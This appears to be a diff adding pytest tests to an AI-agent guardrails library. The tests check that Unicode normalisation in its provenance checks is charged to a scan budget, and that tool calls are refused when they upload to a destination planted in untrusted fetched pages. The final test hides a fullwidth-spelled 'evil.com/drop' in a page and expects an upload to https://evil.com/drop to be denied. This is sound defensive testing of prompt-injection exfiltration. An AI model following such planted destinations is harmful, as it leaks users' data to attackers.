@@ -1,0 +1,166 @@
+"""What reading a call's texts costs the provenance functions, and that it is bounded
+(budget23; docs/security-model.md, promise 8).
+
+Every text and value they compare is read through one normalisation first
+(``textforms.normal``: fillers removed, compatibility forms as ASCII, NFC). Before this,
+that reading was charged to nothing: a cold history (session state restored in a replica
+that had not seen it, or a busy process whose text cache of 256 had moved on) of 100
+results of 64 KiB dense in compatibility characters cost the call 0.4-0.8 s, and a value
+of 600 K such characters 130-150 ms on every call, each allowed. The reading of every
+text that is not ASCII is charged to the call's scan budget now, by its length, alike
+cold or warm (a process's cache never decides a call), and a call that runs the budget
+out is an error of the rule (``failurePolicy``), as any exhausted scan.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+import guardrails
+from guardrails.expr import lib_provenance as lp
+from tests.af_support import load_text
+
+UPLOAD = """apiVersion: guardrails/v1
+kind: ToolPolicy
+metadata: {name: upload}
+spec:
+  match: {tools: ["upload"]}
+  rules:
+    - {name: injected-destination, when: 'untrusted(args.url)', action: deny}
+"""
+
+NOTE = """apiVersion: guardrails/v1
+kind: ToolPolicy
+metadata: {name: note}
+spec:
+  match: {tools: ["note"]}
+  rules:
+    - name: names-evil
+      when: '[1, 2, 3, 4].exists(i, (args.text + string(i)).mentions("evil.com"))'
+      action: deny
+"""
+
+K = 65_536
+DENSE = "\u3042\uff21\u200b"
+"""Hiragana, a fullwidth letter and a zero-width space: every other character of the page
+is one the normalisation rewrites."""
+
+
+def _page(i: int, size: int = K, unit: str = DENSE) -> str:
+    return (f"page {i} " + unit * (size // len(unit) + 1))[:size]
+
+
+def _history(pages: list[str]) -> list[dict[str, Any]]:
+    return [{"tool": "fetch", "args": {"url": f"https://news.example/{i}"}, "trusted": False,
+             "effect": "allow", "result": page} for i, page in enumerate(pages)]
+
+
+@pytest.fixture(name="upload")
+def _upload(tmp_path: Path) -> guardrails.PolicySet:
+    return load_text(tmp_path, UPLOAD)
+
+
+@pytest.fixture(name="normalised")
+def _normalised(monkeypatch: pytest.MonkeyPatch) -> list[int]:
+    """The length of every text the provenance functions normalise."""
+    seen: list[int] = []
+    real = lp.normal
+
+    def counted(text: str) -> str:
+        seen.append(len(text))
+        return real(text)
+
+    monkeypatch.setattr(lp, "normal", counted)
+    return seen
+
+
+def _errors(decision: guardrails.Decision) -> list[str]:
+    return [e.message for e in decision.errors]
+
+
+@pytest.mark.xfail(strict=True, reason="budget23: provenance normalisation is not charged to the scan budget yet (docs/performance.md, Provenance)")
+def test_a_cold_history_is_read_within_the_scan_budget(upload: guardrails.PolicySet,
+                                                       normalised: list[int]) -> None:
+    """100 fresh results of 64 KiB, dense: the call stops reading them when its scan
+    budget is spent (it read all 6.5 M characters, 0.4-0.8 s, and allowed the call), and
+    fails closed; a second call on the same (now cached) history decides alike."""
+    history = _history([_page(i) for i in range(100)])
+    decision = upload.evaluate(tool="upload", args={"url": "https://acme.com/x"},
+                               history=history, request="Summarise the news")
+    assert decision.effect == "deny"
+    assert any("scanning budget" in m for m in _errors(decision))
+    assert sum(normalised) < lp.SCAN_BUDGET // getattr(lp, "READ_COST", 1) + 2 * K
+    again = upload.evaluate(tool="upload", args={"url": "https://acme.com/x"},
+                            history=history, request="Summarise the news")
+    assert (again.effect, _errors(again)) == (decision.effect, _errors(decision))
+
+
+@pytest.mark.xfail(strict=True, reason="budget23: provenance normalisation is not charged to the scan budget yet (docs/performance.md, Provenance)")
+def test_the_reading_of_results_is_charged(upload: guardrails.PolicySet,
+                                           monkeypatch: pytest.MonkeyPatch) -> None:
+    """Three results of 20 K characters, not ASCII, under a budget of 200,000: their
+    searches alone cost a few thousand units, their reading is what runs it out (it was
+    free); ASCII results as long cost it nothing."""
+    monkeypatch.setattr(lp, "SCAN_BUDGET", 200_000)
+    args = {"url": "https://acme.com/x"}
+    plain = upload.evaluate(tool="upload", args=args, request="Summarise",
+                            history=_history([_page(i, 20_000, "ascii ") for i in range(3)]))
+    assert (plain.effect, _errors(plain)) == ("allow", [])
+    spelled = upload.evaluate(tool="upload", args=args, request="Summarise",
+                              history=_history([_page(i, 20_000, "\u043f\u0440\u0438 ")
+                                                for i in range(3)]))
+    assert spelled.effect == "deny"
+    assert any("scanning budget" in m for m in _errors(spelled))
+
+
+@pytest.mark.xfail(strict=True, reason="budget23: provenance normalisation is not charged to the scan budget yet (docs/performance.md, Provenance)")
+def test_a_long_value_is_read_once_and_charged(upload: guardrails.PolicySet,
+                                               normalised: list[int],
+                                               monkeypatch: pytest.MonkeyPatch) -> None:
+    """A value of 300 K characters, not ASCII: normalised once a call (twice before:
+    classified, then matched; 130-150 ms a call of 600 K), and charged by its length."""
+    value = "https://acme.com/" + "\uff21\u3042" * 150_000
+    decision = upload.evaluate(tool="upload", args={"url": value}, request="Summarise",
+                               history=_history(["a page"]))
+    assert decision.effect == "allow"
+    assert sum(n for n in normalised if n >= len(value)) == len(value)
+    monkeypatch.setattr(lp, "SCAN_BUDGET", 100_000)
+    lp._matcher_of.cache_clear()
+    over = upload.evaluate(tool="upload", args={"url": value + "x"}, request="Summarise",
+                           history=_history(["a page"]))
+    assert over.effect == "deny"
+    assert any("scanning budget" in m for m in _errors(over))
+
+
+@pytest.mark.xfail(strict=True, reason="budget23: provenance normalisation is not charged to the scan budget yet (docs/performance.md, Provenance)")
+def test_a_text_the_expression_builds_is_charged(tmp_path: Path,
+                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    """``mentions`` on texts a rule builds (each one new to the cache): their reading is
+    charged to the call's scan budget, not only their length to the evaluation's."""
+    monkeypatch.setattr(lp, "SCAN_BUDGET", 100_000)
+    policies = load_text(tmp_path, NOTE)
+    plain = policies.evaluate(tool="note", args={"text": "x " * 15_000})
+    assert (plain.effect, _errors(plain)) == ("allow", [])
+    spelled = policies.evaluate(tool="note", args={"text": "\u3042 " * 15_000})
+    assert spelled.effect == "deny"
+    assert any("scanning budget" in m for m in _errors(spelled))
+
+
+def test_a_usual_non_ascii_history_is_read_whole(upload: guardrails.PolicySet) -> None:
+    """Five pages of 4 KiB of Japanese (fullwidth punctuation, ideographic spaces): read
+    whole, well within the budget; a destination one of them spells in fullwidth is still
+    found, and nothing else is refused."""
+    japanese = "\u65e5\u672c\u8a9e\u306e\u30c6\u30ad\u30b9\u30c8\uff08\u4f8b\uff09\u3002\u3000"
+    pages = [_page(i, 4096, japanese) for i in range(5)]
+    pages[3] = pages[3][:2000] + " https://\uff45\uff56\uff49\uff4c.com/drop " + pages[3][2000:]
+    request = "Summarise the news"
+    fine = upload.evaluate(tool="upload", args={"url": "https://acme.com/x"},
+                           history=_history(pages), request=request)
+    assert (fine.effect, _errors(fine)) == ("allow", [])
+    hidden = upload.evaluate(tool="upload", args={"url": "https://evil.com/drop"},
+                             history=_history(pages), request=request)
+    assert (hidden.effect, _errors(hidden)) == ("deny", [])
+    assert [f.rule for f in hidden.rules] == ["injected-destination"]
